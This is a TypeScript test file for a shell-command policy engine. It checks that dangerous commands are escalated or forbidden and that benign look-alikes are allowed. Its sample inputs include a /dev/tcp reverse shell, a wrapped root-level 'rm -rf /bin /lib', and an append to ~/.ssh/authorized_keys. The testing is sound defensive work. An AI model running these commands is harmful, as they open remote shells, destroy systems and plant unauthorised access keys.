/**
 * The policy engine on the data tables: every dangerous variant (test/policy/dangerous.txt, and
 * each seed of wrap-seeds.txt inside every supported wrapper) must be escalated (ask / operator
 * / forbid); benign look-alikes (benign.txt) must be allowed, at most 2% escalated (issue 10's
 * target; the test prints the figure). The decision is pure: nothing is executed. Also the
 * cost per decision, measured over the tables and printed.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { builtinPolicy, decide, RANK } from '../../src/main/core/policy/index.js';
import { readTable, WRAPPERS } from './tables.js';

const policy = builtinPolicy(readFileSync(path.join(__dirname, '../../grammars/_meta/policy.toml'), 'utf8'), 'grammars/_meta/policy.toml');
const ctx = { cwd: '/work/project' };
const escalated = (d: string) => RANK[d as keyof typeof RANK] >= RANK.ask;

const dangerous = readTable('dangerous.txt');
const benign = readTable('benign.txt');
const seeds = readTable('wrap-seeds.txt');
const wrapped = seeds.flatMap((s) => WRAPPERS.map(([name, w]) => ({ name, seed: s, line: w(s) })));

describe('policy tables', () => {
  it('the built-in policy file is well-formed', () => {
    expect(policy.errors).toEqual([]);
    expect(policy.layers[0].rules.length).toBeGreaterThan(50);
  });

  it(`escalates every dangerous variant (${dangerous.length} written + ${wrapped.length} wrapped)`, () => {
    expect(dangerous.length).toBeGreaterThanOrEqual(300);
    const allowed: string[] = [];
    for (const line of dangerous) {
      const d = decide(line, policy, ctx);
      if (!escalated(d.decision)) allowed.push(`${JSON.stringify(line)} → ${d.decision} ${JSON.stringify(d.commands)}`);
      // Every decision names its rule and reason.
      expect(d.rule).not.toBe('');
      expect(d.reason).not.toBe('');
    }
    for (const { name, line } of wrapped) {
      const d = decide(line, policy, ctx);
      if (!escalated(d.decision)) allowed.push(`[${name}] ${JSON.stringify(line)} → ${d.decision} ${JSON.stringify(d.commands)}`);
    }
    console.log(`policy tables: ${dangerous.length} dangerous variants + ${wrapped.length} wrapped (${seeds.length} seeds × ${WRAPPERS.length} wrappers); ${allowed.length} allowed`);
    expect(allowed).toEqual([]);
  });

  it(`allows benign look-alikes (${benign.length}), escalating at most 2%`, () => {
    expect(benign.length).toBeGreaterThanOrEqual(300);
    const flagged: string[] = [];
    for (const line of benign) {
      const d = decide(line, policy, ctx);
      if (d.decision !== 'allow') flagged.push(`${JSON.stringify(line)} → ${d.decision} (${d.rule})`);
    }
    const rate = flagged.length / benign.length;
    console.log(`policy tables: ${benign.length} benign look-alikes; ${flagged.length} escalated (${(rate * 100).toFixed(1)}%)${flagged.length ? `:\n  ${flagged.join('\n  ')}` : ''}`);
    expect(rate).toBeLessThanOrEqual(0.02);
  });

  it('reports the resolved simple commands, wrappers seen through', () => {
    const d = decide("sudo -u root sh -c 'timeout 5 rm -rf /{bin,lib}'", policy, ctx);
    expect(d).toMatchObject({ decision: 'ask', rule: 'rm-recursive-root-or-home' });
    expect(d.commands).toContainEqual(['rm', '-rf', '/bin', '/lib']);
    expect(d.reason).toMatch(/recursive delete/);
    const ok = decide('rm -rf node_modules dist', policy, ctx);
    expect(ok).toEqual({ decision: 'allow', rule: 'default', reason: 'no policy rule matched', commands: [['rm', '-rf', 'node_modules', 'dist']], matches: [] });
  });

  it('forbids reverse shells outright, holds privilege files for an operator', () => {
    expect(decide('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', policy, ctx)).toMatchObject({ decision: 'forbid', rule: 'reverse-shell' });
    expect(decide('echo key >> ~/.ssh/authorized_keys', policy, ctx)).toMatchObject({ decision: 'operator', rule: 'write-privilege-file' });
  });

  it('judges relative paths where the line runs', () => {
    expect(decide('rm -rf etc', policy, { cwd: '/' }).decision).toBe('ask');
    expect(decide('rm -rf etc', policy, { cwd: '/work/project' }).decision).toBe('allow');
  });
});
